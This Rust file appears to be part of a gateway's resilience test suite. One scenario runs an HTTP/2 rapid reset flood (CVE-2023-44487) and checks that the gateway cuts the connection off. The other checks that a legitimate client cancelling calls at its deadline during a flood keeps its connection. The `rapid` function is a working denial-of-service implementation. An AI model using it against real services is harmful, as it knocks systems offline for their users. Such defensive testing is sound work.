//! Resets: an attacker opening streams and resetting them at once (HTTP/2
//! rapid reset, CVE-2023-44487), reconnecting whenever cut off; and a
//! legitimate player whose calls time out while someone floods the gateway,
//! who cancels each call at its deadline as every gRPC client does.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::Instant;

use super::floods::{Credential, flood};
use super::origin::{H2, tcp};
use super::wire::{self, GET_MY_PAGE, frame};
use super::{Arena, Findings};

/// `reset_connections` connections from one address, each sending HEADERS
/// and RST_STREAM pairs in batches of 100 as fast as it can, reconnecting
/// when the gateway closes it.
///
/// # Errors
/// Never in practice: failures are counted.
pub async fn rapid(arena: &Arena, duration: Duration) -> anyhow::Result<Findings> {
    let origin = arena.origins.fresh();
    let until = Instant::now() + duration;
    let token = arena.identity.player("rapid-reset");
    let (streams, connections, goaways) =
        (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let reasons = Arc::new(std::sync::Mutex::new(std::collections::BTreeMap::<String, u64>::new()));
    let mut attackers = JoinSet::new();
    for _ in 0..arena.scale.reset_connections {
        let (token, gateway) = (token.clone(), arena.gateway);
        let (streams, connections, goaways, reasons) =
            (streams.clone(), connections.clone(), goaways.clone(), reasons.clone());
        attackers.spawn(async move {
            while Instant::now() < until {
                let Ok(mut stream) = tcp(origin, gateway).await else {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                connections.fetch_add(1, Ordering::Relaxed);
                let authority = gateway.to_string();
                let fields = wire::grpc_fields(&authority, GET_MY_PAGE, Some(&token));
                let fields: Vec<(&str, &str)> = fields.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
                let block = wire::header_block(&fields);
                let mut hello = wire::PREFACE.to_vec();
                hello.extend(wire::settings(&[]));
                let _ = stream.write_all(&hello).await;
                let (mut reader, mut writer) = stream.into_split();
                let reading = tokio::spawn(async move {
                    let (mut buffer, mut read) = (Vec::new(), vec![0u8; 16 * 1024]);
                    loop {
                        match reader.read(&mut read).await {
                            Ok(0) | Err(_) => return None,
                            Ok(n) => buffer.extend_from_slice(&read[..n]),
                        }
                        for received in wire::parse_frames(&mut buffer) {
                            if received.kind == frame::GOAWAY {
                                return Some(
                                    wire::reason_name(received.error_code().unwrap_or_default())
                                        + " "
                                        + &received.goaway_debug(),
                                );
                            }
                        }
                    }
                });
                let mut id = 1u32;
                while Instant::now() < until && !reading.is_finished() && id < (1 << 30) {
                    let mut batch = Vec::with_capacity(100 * (block.len() + 40));
                    for _ in 0..100 {
                        batch.extend(wire::headers_frames(id, &block, true, 16_384));
                        batch.extend(wire::encode_frame(frame::RST_STREAM, 0, id, &8u32.to_be_bytes()));
                        id += 2;
                    }
                    if writer.write_all(&batch).await.is_err() {
                        break;
                    }
                    streams.fetch_add(100, Ordering::Relaxed);
                }
                drop(writer);
                let ended = tokio::time::timeout(Duration::from_secs(1), reading).await;
                if let Ok(Ok(Some(reason))) = ended {
                    goaways.fetch_add(1, Ordering::Relaxed);
                    *reasons.lock().unwrap_or_else(std::sync::PoisonError::into_inner).entry(reason).or_default() += 1;
                }
            }
        });
    }
    while attackers.join_next().await.is_some() {}
    let mut findings = Findings { refused: streams.load(Ordering::Relaxed), ..Findings::default() };
    let reasons = reasons.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
    findings.fact(format!(
        "{} streams opened and reset at once over {} connections from {origin}; cut off {} times: {}",
        streams.load(Ordering::Relaxed),
        connections.load(Ordering::Relaxed),
        goaways.load(Ordering::Relaxed),
        reasons.iter().map(|(r, n)| format!("{r} ×{n}")).collect::<Vec<_>>().join(", ")
    ));
    findings.check("the resetting connection is cut off", goaways.load(Ordering::Relaxed) > 0);
    Ok(findings)
}

/// A player calling at 40 calls/s, each with a 20 ms deadline (sent as
/// `grpc-timeout`) and cancelled when it passes, on one connection, while
/// an attacker floods the gateway with token-less calls: the player's own
/// cancellations must never get their connection closed as an attacker's.
///
/// # Errors
/// When the player cannot connect.
pub async fn timed_out_client(arena: &Arena, duration: Duration) -> anyhow::Result<Findings> {
    let flooding = flood(arena, Credential::Missing, "nobody", duration);
    let player = hurried_player(arena, duration);
    let (flooded, player) = tokio::join!(flooding, player);
    let mut findings = flooded?;
    let (answered, cancelled, connection) = player?;
    findings.fact(format!(
        "a player's calls with a 20 ms deadline: {answered} answered in time, {cancelled} cancelled at their deadline; \
         its connection {connection}"
    ));
    findings
        .check("a client's own deadline cancellations never get its connection closed", connection == "stayed open");
    Ok(findings)
}

async fn hurried_player(arena: &Arena, duration: Duration) -> anyhow::Result<(u64, u64, String)> {
    const DEADLINE: Duration = Duration::from_millis(20);
    let customer = "hurried-player";
    let token = arena.identity.player(customer);
    let connection = H2::connect(arena.origins.fresh(), arena.gateway, 65_535).await?;
    let authority = arena.gateway.to_string();
    let (answered, cancelled) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let until = Instant::now() + duration;
    let mut every = tokio::time::interval(Duration::from_millis(25));
    let mut calls = JoinSet::new();
    while Instant::now() < until && !connection.is_closed() {
        every.tick().await;
        let request = wire::grpc_request(&authority, GET_MY_PAGE, Some(&token), &[("grpc-timeout", "20m".into())])?;
        let Ok(mut ready) = connection.send.clone().ready().await else { break };
        let Ok((response, mut body)) = ready.send_request(request, false) else { break };
        let _ = body.send_data(wire::my_page_body(customer), true);
        let (answered, cancelled) = (answered.clone(), cancelled.clone());
        calls.spawn(async move {
            let call = async {
                let response = response.await.ok()?;
                let mut page = response.into_body();
                while let Some(chunk) = page.data().await {
                    let chunk = chunk.ok()?;
                    let _ = page.flow_control().release_capacity(chunk.len());
                }
                Some(())
            };
            // Dropping the call at the deadline resets the stream (CANCEL),
            // exactly as a gRPC client does.
            match tokio::time::timeout(DEADLINE, call).await {
                Ok(_) => answered.fetch_add(1, Ordering::Relaxed),
                Err(_) => cancelled.fetch_add(1, Ordering::Relaxed),
            };
            drop(body);
        });
        while calls.try_join_next().is_some() {}
    }
    while calls.join_next().await.is_some() {}
    let mut connection = connection;
    let state = if connection.is_closed() {
        match tokio::time::timeout(Duration::from_secs(1), &mut connection.driver).await {
            Ok(Ok(Err(error))) => format!("was closed: {error}"),
            _ => "was closed".to_owned(),
        }
    } else {
        "stayed open".to_owned()
    };
    Ok((answered.load(Ordering::Relaxed), cancelled.load(Ordering::Relaxed), state))
}
